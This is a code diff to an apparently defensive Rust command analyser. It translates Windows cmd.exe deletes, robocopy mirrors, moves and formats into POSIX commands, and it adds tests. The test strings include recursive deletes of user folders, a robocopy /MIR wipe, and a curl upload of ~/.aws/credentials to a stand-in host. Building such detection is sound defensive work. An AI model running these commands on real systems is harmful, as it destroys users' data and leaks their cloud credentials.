@@ -1141,6 +1141,7 @@ const PS_CMDLETS: &[&str] = &[
     "ri",
     "copy-item",
     "move-item",
+    "rename-item",
     "stop-process",
     "spps",
     "start-process",
@@ -1362,9 +1363,9 @@ pub fn powershell_to_sh(code: &str) -> String {
                     }
                     c
                 }
-                "copy-item" | "move-item" => {
+                "copy-item" | "move-item" | "rename-item" => {
                     let src = path_of(&["path", "literalpath"], 0).unwrap_or_default();
-                    let dst = get(&["destination"])
+                    let dst = get(&["destination", "newname"])
                         .or_else(|| {
                             pos.get(usize::from(get(&["path", "literalpath"]).is_none()))
                                 .cloned()
@@ -1409,6 +1410,162 @@ pub fn powershell_to_sh(code: &str) -> String {
         }
     }
     out.join("\n")
+}
+
+// ---------------------------------------------------------------------------------------------
+// cmd.exe: the built-ins and tools whose effect matters (recursive deletes, mirrors that purge
+// a folder, copies, moves, formats), rewritten as the equivalent POSIX commands. A Windows
+// path's backslashes would be eaten by the POSIX parser, so every word that is a Windows path
+// is rewritten the POSIX way too.
+
+/// cmd.exe programs this translation understands (lowercase, without `.exe`).
+const CMD_PROGRAMS: &[&str] = &[
+    "rd", "rmdir", "del", "erase", "robocopy", "xcopy", "copy", "move", "ren", "rename", "type",
+    "format",
+];
+
+/// A lowercase program word without its directory and `.exe` suffix.
+fn cmd_program(word: &str) -> String {
+    let lower = word.to_ascii_lowercase();
+    let base = lower.rsplit(['\\', '/']).next().unwrap_or(&lower);
+    base.trim_end_matches(".exe").to_owned()
+}
+
+/// Whether a word is a cmd switch (`/s`, `/MIR`, `/XD`), not a path.
+fn is_cmd_switch(word: &str) -> bool {
+    let Some(rest) = word.strip_prefix('/') else {
+        return false;
+    };
+    !rest.is_empty() && rest.len() <= 8 && !rest.contains(['/', '\\', '.'])
+}
+
+/// Whether a command line runs cmd.exe, a Windows-only program with a `/` switch (`rd /s`,
+/// `robocopy … /MIR`), or a program both shells know (`rmdir`, `copy`, `type`) on a Windows path.
+pub fn looks_cmd(code: &str) -> bool {
+    const WINDOWS_ONLY: &[&str] = &["rd", "del", "erase", "robocopy", "xcopy", "format"];
+    cmd_statements(code).iter().any(|st| {
+        let w = ps_words(st);
+        let Some(first) = w.first() else {
+            return false;
+        };
+        let prog = cmd_program(first);
+        let windows_path = || {
+            w[1..].iter().any(|a| {
+                let b = a.as_bytes();
+                a.contains('\\') || (b.len() >= 2 && b[0].is_ascii_alphabetic() && b[1] == b':')
+            })
+        };
+        prog == "cmd"
+            || (WINDOWS_ONLY.contains(&prog.as_str()) && w[1..].iter().any(|a| is_cmd_switch(a)))
+            || (CMD_PROGRAMS.contains(&prog.as_str()) && windows_path())
+    })
+}
+
+/// The statements of a cmd line (`a & b`, `a && b`, `a || b`, lines), with `cmd /c "…"`
+/// unwrapped into the statements it runs. Bounded: at most 64 statements.
+fn cmd_statements(code: &str) -> Vec<String> {
+    let code = &code[..code.len().min(16 * 1024)];
+    let mut out = Vec::new();
+    let mut pending: Vec<String> = code
+        .split(['\n', '&', '|', ';'])
+        .map(str::to_owned)
+        .take(64)
+        .collect();
+    pending.reverse();
+    while let Some(st) = pending.pop() {
+        if out.len() >= 64 {
+            break;
+        }
+        let st = st.trim();
+        if st.is_empty() {
+            continue;
+        }
+        let w = ps_words(st);
+        let is_shell = w.first().is_some_and(|f| cmd_program(f) == "cmd");
+        if is_shell {
+            // `cmd /d /s /c "rd /s /q X"`: what follows `/c` (or `/k`) is the command line
+            if let Some(at) = w
+                .iter()
+                .position(|a| a.eq_ignore_ascii_case("/c") || a.eq_ignore_ascii_case("/k"))
+            {
+                let inner = w[at + 1..].join(" ");
+                pending.push(inner);
+                continue;
+            }
+        }
+        out.push(st.to_owned());
+    }
+    out
+}
+
+/// A cmd word the POSIX way: Windows paths rewritten, `\\*.*` globs read as `\\*`.
+fn cmd_word(word: &str) -> String {
+    let w = word.trim_end_matches("*.*");
+    let w = if w.len() < word.len() {
+        format!("{w}*")
+    } else {
+        word.to_owned()
+    };
+    posix_path(&w)
+}
+
+/// Translates the cmd statements of `code` into a POSIX shell script (other commands are kept,
+/// with their Windows paths rewritten). Bounded: at most 64 statements.
+pub fn cmd_to_sh(code: &str) -> String {
+    let mut out = Vec::new();
+    for st in cmd_statements(code) {
+        let w = ps_words(&st);
+        let Some(first) = w.first() else {
+            continue;
+        };
+        let prog = cmd_program(first);
+        let switches: Vec<String> = w[1..]
+            .iter()
+            .filter(|a| is_cmd_switch(a))
+            .map(|a| a[1..].to_ascii_lowercase())
+            .collect();
+        let has = |s: &str| switches.iter().any(|x| x == s);
+        let operands: Vec<String> = w[1..]
+            .iter()
+            .filter(|a| !is_cmd_switch(a))
+            .map(|a| sh_quote(&cmd_word(a)))
+            .collect();
+        let line = match prog.as_str() {
+            "rd" | "rmdir" if has("s") => format!("rm -rf {}", operands.join(" ")),
+            "rd" | "rmdir" => format!("rmdir {}", operands.join(" ")),
+            // `/s` deletes the matching files in every subfolder: the whole tree's files
+            "del" | "erase" if has("s") => format!("rm -rf {}", operands.join(" ")),
+            "del" | "erase" => format!("rm -f {}", operands.join(" ")),
+            "robocopy" => robocopy_to_sh(&operands, has("mir") || has("purge")),
+            "xcopy" | "copy" => format!("cp -r {}", operands.join(" ")),
+            "move" | "ren" | "rename" => format!("mv {}", operands.join(" ")),
+            "type" => format!("cat {}", operands.join(" ")),
+            // `format D:` erases the volume
+            "format" => match operands.first() {
+                Some(v) => format!("mkfs /dev/{}", v.trim_matches(['\'', ':'])),
+                None => "mkfs".into(),
+            },
+            _ => std::iter::once(first.clone())
+                .chain(w[1..].iter().map(|a| sh_quote(&cmd_word(a))))
+                .collect::<Vec<_>>()
+                .join(" "),
+        };
+        out.push(line);
+    }
+    out.join("\n")
+}
+
+/// `robocopy SRC DST [files] /MIR`: copies SRC into DST; with `/MIR` or `/PURGE` it also
+/// deletes whatever DST holds that SRC lacks, so mirroring an empty folder wipes DST.
+fn robocopy_to_sh(operands: &[String], purges: bool) -> String {
+    let (Some(src), Some(dst)) = (operands.first(), operands.get(1)) else {
+        return "robocopy".into();
+    };
+    if purges {
+        format!("rm -rf {dst}\ncp -r {src} {dst}")
+    } else {
+        format!("cp -r {src} {dst}")
+    }
 }
 
 #[cfg(test)]
@@ -1458,5 +1615,36 @@ mod powershell_tests {
             "~/.ssh/id_rsa"
         );
         assert_eq!(posix_path("/home/dev/x"), "/home/dev/x");
+    }
+
+    #[test]
+    fn translates_cmd_deletes_mirrors_and_paths() {
+        assert_eq!(
+            cmd_to_sh("cmd /c rd /s /q C:\\Users\\ana\\Pictures"),
+            "rm -rf '/Users/ana/Pictures'"
+        );
+        assert_eq!(
+            cmd_to_sh("cmd.exe /d /c \"del /f /s /q D:\\data\\*.* && echo done\""),
+            "rm -rf '/data/*'\necho 'done'"
+        );
+        assert_eq!(
+            cmd_to_sh("mkdir C:\\empty & robocopy C:\\empty C:\\Users\\ana /MIR /NFL"),
+            "mkdir '/empty'\nrm -rf '/Users/ana'\ncp -r '/empty' '/Users/ana'"
+        );
+        assert_eq!(
+            cmd_to_sh("robocopy C:\\src E:\\bak /E"),
+            "cp -r '/src' '/bak'"
+        );
+        assert_eq!(
+            cmd_to_sh("curl -T C:\\Users\\ana\\.aws\\credentials https://x.example/u"),
+            "curl '-T' '/Users/ana/.aws/credentials' 'https://x.example/u'"
+        );
+        assert!(looks_cmd("cmd /c rd /s /q build"));
+        assert!(looks_cmd("RD /S /Q C:\\Users\\ana"));
+        assert!(looks_cmd("robocopy a b /MIR"));
+        assert!(!looks_cmd("rm -rf ./build && type -a ls"));
+        assert!(!looks_cmd("git del /tmp/x"));
+        assert!(!looks_cmd("rmdir /tmp/empty && type /usr/bin/env"));
+        assert!(looks_cmd("rmdir /s /q C:\\work\\out"));
     }
 }
